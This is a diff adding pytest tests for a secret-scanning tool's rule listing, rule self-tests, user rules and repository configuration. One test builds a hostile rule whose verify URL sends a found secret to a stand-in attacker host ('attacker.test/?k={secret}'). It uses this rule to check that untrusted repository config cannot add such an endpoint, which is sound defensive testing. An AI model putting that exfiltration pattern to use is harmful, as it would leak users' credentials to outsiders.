@@ -1,0 +1,96 @@
+"""`leakwindow rules list/test`, and user rules from --rules and .leakwindow.toml."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from scenario_support import build, finding_for, scan_json
+
+from scanner.cli import main
+
+USER_RULE = """
+[[rule]]
+id = "acme-token"
+title = "Acme token"
+severity = "high"
+keywords = ["acme_"]
+pattern = '''\\b(acme_[a-z0-9]{20})\\b'''
+remediation = "Rotate it in the Acme console."
+[rule.examples]
+match = ["t = acme_q8w7e6r5t4y3u2i1o0pz"]
+ignore = ["t = acme_short"]
+"""
+
+
+def test_rules_list_shows_at_least_200_rules_with_families(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    assert main(["rules", "list", "--format", "json"]) == 0
+    rows = json.loads(capsys.readouterr().out)
+    assert len(rows) >= 200
+    assert len({row["id"] for row in rows}) == len(rows)
+    assert {"id", "title", "severity", "family"} <= set(rows[0])
+    assert len({row["family"] for row in rows}) >= 5
+
+
+def test_rules_test_passes_the_builtin_pack(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["rules", "test"]) == 0
+    assert " 0 failure(s)" in capsys.readouterr().out
+
+
+def test_rules_test_reports_a_failing_user_example(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rule_file = tmp_path / "mine.toml"
+    rule_file.write_text(USER_RULE.replace('"t = acme_short"', '"t = acme_q8w7e6r5t4y3u2i1o0pz"'))
+    assert main(["rules", "test", str(rule_file)]) == 1
+    assert "FAIL acme-token: examples.ignore[0]" in capsys.readouterr().out
+
+
+def _commit_file(repo: Path, name: str, text: str) -> None:
+    import subprocess
+
+    (repo / name).write_text(text)
+    env = ["-c", "user.name=t", "-c", "user.email=t@t.test"]
+    subprocess.run(["git", "-C", str(repo), "add", name], check=True)
+    subprocess.run(["git", "-C", str(repo), *env, "commit", "-qm", name], check=True)
+
+
+def test_user_rule_from_config_finds_its_token(tmp_path: Path) -> None:
+    fx = build("incident", tmp_path)
+    (fx.path / "acme.toml").write_text(USER_RULE)
+    (fx.path / ".leakwindow.toml").write_text('[rules]\nextra = ["acme.toml"]\n')
+    _commit_file(fx.path, "client.py", 'TOKEN = "acme_z9x8c7v6b5n4m3l2k1j0"\n')
+    _, report = scan_json(fx.path, tmp_path)
+    finding_for(report, "acme_z9x8c7v6b5n4m3l2k1j0")
+
+
+def test_config_can_disable_a_rule_and_exclude_paths(tmp_path: Path) -> None:
+    fx = build("incident", tmp_path)
+    (fx.path / ".leakwindow.toml").write_text('[rules]\ndisable = ["xai-api-key"]\n')
+    code, report = scan_json(fx.path, tmp_path)
+    assert code == 0 and report["findings"] == []
+    (fx.path / ".leakwindow.toml").write_text('[paths]\nexclude = ["config/"]\n')
+    code, report = scan_json(fx.path, tmp_path)
+    assert code == 0 and report["findings"] == []
+
+
+def test_repo_config_cannot_add_a_verify_endpoint(tmp_path: Path) -> None:
+    from scanner.config import find_config, load_pack
+
+    fx = build("incident", tmp_path)
+    hostile = USER_RULE.replace(
+        'remediation = "Rotate it in the Acme console."',
+        'remediation = "Rotate it in the Acme console."\n'
+        'verify = { url = "https://attacker.test/?k={secret}" }',
+    )
+    (fx.path / "acme.toml").write_text(hostile)
+    (fx.path / ".leakwindow.toml").write_text('[rules]\nextra = ["acme.toml"]\n')
+    config = find_config(fx.path, None)
+    assert load_pack(config, []).by_id["acme-token"].verify is None
+    trusted = load_pack(config, [], trust_config=True)
+    assert trusted.by_id["acme-token"].verify is not None
+    from_command_line = load_pack(find_config(None, None), [fx.path / "acme.toml"])
+    assert from_command_line.by_id["acme-token"].verify is not None
